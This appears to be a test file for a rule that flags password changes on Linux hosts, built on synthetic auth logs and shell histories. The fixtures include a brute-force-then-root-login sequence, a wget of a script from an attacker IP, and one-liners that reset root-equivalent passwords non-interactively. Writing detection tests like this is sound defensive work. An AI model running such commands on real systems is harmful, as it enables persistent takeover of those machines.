import { authFacts, repeat, sshd, syslogLines } from '../../../test/helpers/auth-log';
import { historyFacts } from '../../../test/helpers/log-users';
import { testRule } from '../../../test/helpers/rule-tester';
import { parsePasswd } from '../../collect/users';
import rule from './password-changed';

const T0 = new Date('2026-11-19T03:00:00Z');
const users = {
  users: parsePasswd('root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/bash\ndeploy:x:1000:1000::/home/deploy:/bin/bash\n'),
  groups: [],
};
const noLog = authFacts('');
const noHistory = historyFacts({});

testRule(rule, {
  valid: [
    {
      name: 'histories that only read or lock passwords',
      facts: {
        users,
        authLog: noLog,
        histories: historyFacts({
          '/root/.bash_history': [
            'cat /etc/passwd',
            'grep deploy /etc/passwd | cut -d: -f1',
            'passwd -l olduser',
            'passwd -S root',
            'history | grep passwd',
            'vi /etc/passwd',
            'openssl passwd -6 secret',
          ].join('\n'),
        }),
      },
    },
    {
      name: 'logs with logins and sudo but no password change',
      facts: {
        users,
        histories: noHistory,
        authLog: authFacts(
          syslogLines(T0, [
            sshd.accepted('deploy', '198.51.100.7', 'publickey'),
            'sudo[2201]:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/apt update',
          ]),
        ),
      },
    },
  ],
  invalid: [
    {
      name: 'an admin changing their own password and root with passwd: both low alone',
      facts: {
        users,
        histories: noHistory,
        authLog: authFacts(
          syslogLines(T0, [
            'passwd[4106]: pam_unix(passwd:chauthtok): password changed for deploy',
            "passwd[4106]: password for 'deploy' changed by 'deploy'",
            'sudo[4100]:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/passwd root',
            'passwd[4107]: pam_unix(passwd:chauthtok): password changed for root',
          ]),
        ),
      },
      expect: [
        {
          severity: 'low',
          user: 'deploy',
          path: '/var/log/auth.log',
          title: /^Password of deploy changed 1× \(last 2026-11-19T03:00:00\.000Z, passwd\)$/,
        },
        {
          severity: 'low',
          user: 'root',
          evidence: /pam_unix\(passwd:chauthtok\): password changed for root\nrun through sudo by deploy$/,
        },
      ],
    },
    {
      name: 'root-equivalent password set by chpasswd, by usermod, and root changed right after a brute force',
      facts: {
        users,
        histories: noHistory,
        authLog: authFacts(
          syslogLines(T0, [
            ...repeat(12, () => sshd.failed('root', '45.67.89.10')),
            sshd.accepted('root', '45.67.89.10'),
            'passwd[4107]: pam_unix(passwd:chauthtok): password changed for root',
            'chpasswd[4108]: pam_unix(chpasswd:chauthtok): password changed for toor',
            "usermod[4109]: change user 'deploy' password",
          ]),
        ),
      },
      expect: [
        {
          severity: 'high',
          user: 'root',
          title: /^Password of root changed/,
          evidence: /0 minute\(s\) after 45\.67\.89\.10 logged in as root following 12 failed attempts/,
        },
        {
          severity: 'high',
          user: 'toor',
          title: /^Password of toor \(UID 0, equivalent to root\) changed/,
          evidence: /set non-interactively \(chpasswd\)/,
        },
        { severity: 'high', user: 'deploy', title: /usermod/ },
      ],
    },
    {
      name: 'password commands in shell histories, scripted ones for root high',
      facts: {
        users,
        authLog: noLog,
        histories: historyFacts({
          '/root/.bash_history': [
            'wget -q http://45.67.89.10/x.sh',
            "echo 'root:Pa55w0rd!' | chpasswd",
            'echo "hunter2" | passwd --stdin toor',
            "usermod -p '$6$salt$hash' deploy",
          ].join('\n'),
          '/home/deploy/.bash_history': 'ls\npasswd\nsudo passwd root\n',
        }),
      },
      expect: [
        {
          severity: 'high',
          user: 'root',
          path: '/root/.bash_history',
          title: /^root set the password of root in \/root\/\.bash_history \(1×\)$/,
          evidence: /:2: echo 'root:Pa55w0rd!' \| chpasswd/,
        },
        { severity: 'high', user: 'toor', title: /toor \(UID 0, equivalent to root\)/, evidence: /set non-interactively \(passwd-stdin\)/ },
        { severity: 'low', user: 'deploy', path: '/root/.bash_history', title: /usermod|deploy in \/root/ },
        { severity: 'low', user: 'deploy', path: '/home/deploy/.bash_history' },
        { severity: 'low', user: 'root', path: '/home/deploy/.bash_history', evidence: /:3: sudo passwd root/ },
      ],
    },
  ],
});
